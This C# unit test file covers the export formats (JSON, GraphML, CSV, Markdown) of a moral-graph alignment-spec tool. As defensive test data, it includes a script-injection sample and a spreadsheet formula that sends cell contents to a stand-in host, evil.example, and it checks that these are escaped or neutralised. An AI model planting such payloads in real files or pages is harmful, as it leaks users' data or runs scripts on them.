using System.IO.Compression;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using MoralGraph.Core.Events;
using MoralGraph.Core.Export;
using MoralGraph.Core.Reconciliation;
using MoralGraph.Core.Values;
using NJsonSchema;
using static MoralGraph.Core.Tests.Builders;

namespace MoralGraph.Core.Tests.Export;

public class ExportFormatTests
{
    private static readonly MoralGraphSnapshot Snapshot = CreateSnapshot();

    private static MoralGraphSnapshot CreateSnapshot()
    {
        var study = Study(("q", ["c", "d"]));
        var votes = Votes(3, "a", "b").Concat(Votes(2, "b", "c", prefix: "x")).Concat(Votes(2, "c", "b", prefix: "y"))
            .Concat(Votes(2, "a", "c", prefix: "z", context: "d"));
        var values = new[] { "a", "b", "c" }.Select(id => Value(id, $"author-{id}")).ToList();
        values[1] = values[1] with { Title = "Safe <script>alert('x')</script> *bold*" };
        values[2] = values[2] with { Description = "He said \"wait\", then left." };
        return new MoralGraphSnapshot(study, values, votes.ToList());
    }

    private static ExportInput Input(IReconciliationProfile? profile = null) =>
        ExportFormats.Prepare(Snapshot, profile ?? new DefaultProfile(), new DateTimeOffset(2026, 5, 1, 0, 0, 0, TimeSpan.Zero));

    private static async Task<byte[]> WriteAsync(string format, ExportInput input)
    {
        using var stream = new MemoryStream();
        await ExportFormats.Find(format)!.WriteAsync(input, stream);
        return stream.ToArray();
    }

    [Fact]
    public async Task The_json_spec_validates_against_the_published_schema()
    {
        var json = System.Text.Encoding.UTF8.GetString(await WriteAsync("json", Input()));
        var schema = await JsonSchema.FromJsonAsync(AlignmentSpecJson.Schema);

        Assert.Empty(schema.Validate(json));
        var document = JsonNode.Parse(json)!.AsObject();
        Assert.Null(AlignmentSpecJson.CheckHash(document));
        Assert.Equal(["redLines", "communityValues", "individualLatitude"], document["precedence"]!.AsArray().Select(n => n!.GetValue<string>()));
        Assert.Equal("Never lie about medicine.", document["layers"]!["redLines"]![0]!["statement"]!.GetValue<string>());
        Assert.Equal("default", document["algorithm"]!["profile"]!.GetValue<string>());
    }

    [Fact]
    public async Task The_schema_rejects_a_spec_missing_a_required_layer()
    {
        var document = JsonNode.Parse(AlignmentSpecJson.Write(Input().Spec))!.AsObject();
        document["layers"]!.AsObject().Remove("redLines");
        var errors = (await JsonSchema.FromJsonAsync(AlignmentSpecJson.Schema)).Validate(document.ToJsonString());

        Assert.Contains(errors, e => e.Property == "redLines");
    }

    [Fact]
    public void The_content_hash_detects_an_edit_and_ignores_the_export_time()
    {
        var spec = Input().Spec;
        var first = JsonNode.Parse(AlignmentSpecJson.Write(spec))!.AsObject();
        var later = JsonNode.Parse(AlignmentSpecJson.Write(spec with { GeneratedAt = "2030-01-01T00:00:00Z" }))!.AsObject();
        Assert.Equal(first["contentHash"]!.GetValue<string>(), later["contentHash"]!.GetValue<string>());

        first["values"]![0]!["title"] = "Edited after export";
        Assert.Contains("changed after export", AlignmentSpecJson.CheckHash(first), StringComparison.Ordinal);
    }

    [Fact]
    public void The_json_spec_round_trips()
    {
        var text = AlignmentSpecJson.Write(Input().Spec);
        var back = AlignmentSpecJson.Read(text);

        Assert.Equal(text, AlignmentSpecJson.Write(back with { ContentHash = null }));
        Assert.Equal(2, back.Graphs.Count);
        Assert.Contains(back.ContestedEdges, e => e.Reason == "both-directions");
        Assert.Equal(["author-a"], back.Values[0].Members.Select(m => m.ParticipantId));
    }

    [Fact]
    public void The_streamed_spec_holds_what_serializing_the_spec_record_gives_field_for_field_in_order()
    {
        var spec = Input().Spec;
        var streamed = JsonNode.Parse(AlignmentSpecJson.Write(spec))!.AsObject();
        var serialized = JsonSerializer.SerializeToNode(spec with { ContentHash = streamed["contentHash"]!.GetValue<string>() }, AlignmentSpecJson.Options)!;

        Assert.Equal(serialized.ToJsonString(), streamed.ToJsonString());
    }

    [Fact]
    public async Task A_spec_streamed_in_chunks_is_the_text_Write_gives_and_its_hash_is_returned_and_checks_out()
    {
        // Thousands of edges: many 64 KB chunks.
        var snapshot = MoralGraph.Core.Synthetic.SyntheticStudies.LargeGraph(3_000);
        var spec = ExportFormats.Prepare(snapshot, new DefaultProfile(new DefaultProfileOptions { BootstrapResamples = 0 }), null).Spec;
        using var output = new MemoryStream();

        var hash = await AlignmentSpecJson.WriteAsync(spec, output);

        var text = System.Text.Encoding.UTF8.GetString(output.ToArray());
        Assert.True(output.Length > 1_000_000, $"{output.Length} bytes");
        Assert.Equal(AlignmentSpecJson.Write(spec), text);
        Assert.Equal(hash, AlignmentSpecJson.ComputeHash(spec));
        var document = JsonNode.Parse(text)!.AsObject();
        Assert.Equal(hash, document["contentHash"]!.GetValue<string>());
        Assert.Null(AlignmentSpecJson.CheckHash(document));
    }

    [Fact]
    public void Each_edge_value_and_ranking_entry_is_one_line_under_the_indented_outline()
    {
        var text = AlignmentSpecJson.Write(Input().Spec);
        var lines = text.Split('\n');

        Assert.Contains(lines, l => l == "  \"values\": [");
        Assert.Equal(3, lines.Count(l => l.StartsWith("    {\"id\":", StringComparison.Ordinal)));
        Assert.Equal(Input().Spec.Graphs.Sum(g => g.Edges.Count), lines.Count(l => l.StartsWith("        {\"sourceValueId\":", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task Edges_of_the_global_mai_graph_name_their_contexts_by_id_and_the_schema_accepts_them()
    {
        var input = ExportFormats.Prepare(Snapshot, new Mai2023Profile(), null);
        var json = System.Text.Encoding.UTF8.GetString(await WriteAsync("json", input));
        var edge = JsonNode.Parse(json)!["graphs"]![0]!["edges"]![0]!;

        Assert.Equal(["When c"], edge["contexts"]!.AsArray().Select(c => c!.GetValue<string>()));
        Assert.Equal("""[{"questionId":"q","contextId":"c"}]""", edge["contextRefs"]!.ToJsonString());
        Assert.Empty((await JsonSchema.FromJsonAsync(AlignmentSpecJson.Schema)).Validate(json));
        Assert.All(JsonNode.Parse(json)!["graphs"]![0]!["edges"]!.AsArray(), e => Assert.NotNull(e!["contextRefs"]));

        // A graph of one question and context is its edges' context: they carry no references of their own.
        var perContext = JsonNode.Parse(await WriteAsync("json", Input()))!["graphs"]!.AsArray();
        Assert.All(perContext.SelectMany(g => g!["edges"]!.AsArray()), e => Assert.Null(e!["contextRefs"]));
    }

    [Fact]
    public async Task GraphML_has_every_value_as_a_node_and_every_edge_with_its_tallies()
    {
        var input = Input();
        var xml = XDocument.Load(new MemoryStream(await WriteAsync("graphml", input)));
        XNamespace ns = "http://graphml.graphdrawing.org/xmlns";

        var nodes = xml.Descendants(ns + "node").Select(n => n.Attribute("id")!.Value).ToList();
        Assert.Equal(["a", "b", "c"], nodes);
        var edges = xml.Descendants(ns + "edge").ToList();
        Assert.Equal(input.Spec.Graphs.Sum(g => g.Edges.Count), edges.Count);
        var first = edges[0];
        Assert.Equal("3", first.Elements(ns + "data").Single(d => d.Attribute("key")!.Value == "wiser").Value);
        Assert.Equal("Safe <script>alert('x')</script> *bold*", xml.Descendants(ns + "node").ElementAt(1).Elements(ns + "data").First().Value);
    }

    [Fact]
    public async Task Csv_is_a_zip_of_four_pseudonymous_tables()
    {
        using var zip = new ZipArchive(new MemoryStream(await WriteAsync("csv", Input())));

        Assert.Equal(["values.csv", "edges.csv", "rankings.csv", "votes.csv"], zip.Entries.Select(e => e.Name));
        using var votes = new StreamReader(zip.GetEntry("votes.csv")!.Open());
        var lines = (await votes.ReadToEndAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("voteId,participantId,fromValueId,toValueId,questionId,contextId,verdict,castAt", lines[0]);
        Assert.Equal(Snapshot.Votes.Count + 1, lines.Length);
        Assert.DoesNotContain("comment", lines[0], StringComparison.Ordinal);
        using var values = new StreamReader(zip.GetEntry("values.csv")!.Open());
        var valuesText = await values.ReadToEndAsync();
        Assert.Contains(",Safe <script>alert('x')</script> *bold*,", valuesText, StringComparison.Ordinal);
        Assert.Contains(",\"He said \"\"wait\"\", then left.\",", valuesText, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_formula_title_is_quoted_text_in_csv_and_verbatim_in_json_graphml_and_mai()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        var values = new[] { "a", "b" }.Select(id => Value(id, $"author-{id}")).ToList();
        values[0] = values[0] with { Title = formula, Description = "+1 if you agree", Policies = ["@SUM(A1:A9) moments", "-2 CHOICES"] };
        values[1] = values[1] with { Title = "\t=1+1", Description = "\r=1+1 then more" };
        var input = ExportFormats.Prepare(new MoralGraphSnapshot(Study(), values, Votes(3, "a", "b").ToList()), new DefaultProfile(), null);

        var valuesCsv = await CsvTableAsync(input, "values.csv");
        Assert.Contains("a,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",'+1 if you agree,'@SUM(A1:A9) moments | -2 CHOICES,", valuesCsv, StringComparison.Ordinal);
        Assert.Contains("b,'\t=1+1,\"'\r=1+1 then more\",", valuesCsv, StringComparison.Ordinal);

        var json = JsonNode.Parse(await WriteAsync("json", input))!["values"]!.AsArray();
        Assert.Equal(formula, ValueNamed(json, "a")["title"]!.GetValue<string>());
        Assert.Equal("+1 if you agree", ValueNamed(json, "a")["description"]!.GetValue<string>());
        Assert.Equal(["@SUM(A1:A9) moments", "-2 CHOICES"], ValueNamed(json, "a")["policies"]!.AsArray().Select(p => p!.GetValue<string>()));
        var mai = JsonNode.Parse(await WriteAsync("mai", input))!["values"]!.AsArray();
        Assert.Equal(formula, ValueNamed(mai, "a")["title"]!.GetValue<string>());
        Assert.Equal("\t=1+1", ValueNamed(mai, "b")["title"]!.GetValue<string>());
        XNamespace ns = "http://graphml.graphdrawing.org/xmlns";
        var graphml = XDocument.Load(new MemoryStream(await WriteAsync("graphml", input)));
        var node = graphml.Descendants(ns + "node").Single(n => n.Attribute("id")!.Value == "a");
        Assert.Equal(formula, node.Elements(ns + "data").First().Value);
    }

    [Fact]
    public async Task Numbers_the_csv_writes_itself_stay_numbers_even_when_negative()
    {
        var input = Input();
        var first = input.Spec.Graphs[0];
        var lowered = first with { Ranking = [first.Ranking[0] with { Score = -0.125, ScoreLow = -0.5 }, .. first.Ranking.Skip(1)] };
        input = input with { Spec = input.Spec with { Graphs = [lowered, .. input.Spec.Graphs.Skip(1)] } };

        var rankings = (await CsvTableAsync(input, "rankings.csv")).Split("\r\n");

        var row = rankings[1].Split(',');
        Assert.Equal(first.Ranking[0].ValueId, row[2]);
        Assert.Equal("-0.125", row[4]);
        Assert.Equal("-0.5", row[6]);
    }

    private static JsonNode ValueNamed(JsonArray values, string id) => values.Single(v => v!["id"]!.ToString() == id)!;

    private static async Task<string> CsvTableAsync(ExportInput input, string table)
    {
        using var zip = new ZipArchive(new MemoryStream(await WriteAsync("csv", input)));
        using var reader = new StreamReader(zip.GetEntry(table)!.Open());
        return await reader.ReadToEndAsync();
    }

    [Theory]
    [InlineData("graphml")]
    [InlineData("csv")]
    [InlineData("md")]
    [InlineData("mai")]
    public async Task The_same_data_exports_to_the_same_bytes(string format)
    {
        Assert.Equal(await WriteAsync(format, Input()), await WriteAsync(format, Input()));
    }

    [Fact]
    public async Task Markdown_names_the_winners_and_escapes_participant_markup()
    {
        var markdown = System.Text.Encoding.UTF8.GetString(await WriteAsync("md", Input()));

        Assert.Contains("# Alignment spec: Test study", markdown, StringComparison.Ordinal);
        Assert.Contains("Never lie about medicine.", markdown, StringComparison.Ordinal);
        Assert.Contains("### q — When c", markdown, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>", markdown, StringComparison.Ordinal);
        Assert.Contains("\\<script\\>", markdown, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Mai_format_has_the_published_shape_with_numeric_ids_where_ids_are_numbers()
    {
        var values = new List<CanonicalValue> { Value("17"), Value("18"), Value("x") };
        var snapshot = new MoralGraphSnapshot(Study(), values, Votes(2, "17", "18").Concat(Votes(2, "18", "x", prefix: "o")).ToList());
        var input = ExportFormats.Prepare(snapshot, new Mai2023Profile(), null);
        var document = JsonNode.Parse(await WriteAsync("mai", input))!.AsObject();

        Assert.Equal(["values", "edges"], document.Select(p => p.Key));
        var edge = document["edges"]![0]!.AsObject();
        Assert.Equal(["sourceValueId", "wiserValueId", "contexts", "counts", "summary"], edge.Select(p => p.Key));
        Assert.Equal(17, edge["sourceValueId"]!.GetValue<long>());
        Assert.Equal("x", document["edges"]![1]!["wiserValueId"]!.GetValue<string>());
        Assert.Equal(["markedWiser", "markedNotWiser", "markedLessWise", "markedUnsure", "impressions"], edge["counts"]!.AsObject().Select(p => p.Key));
    }

    [Fact]
    public void Every_format_has_a_distinct_name()
    {
        Assert.Equal(["json", "graphml", "csv", "md", "mai", "jsonl-preferences", "principles"], ExportFormats.All.Select(f => f.Name));
        Assert.Null(ExportFormats.Find("xlsx"));
        Assert.NotNull(ExportFormats.Find("JSON"));
    }
}
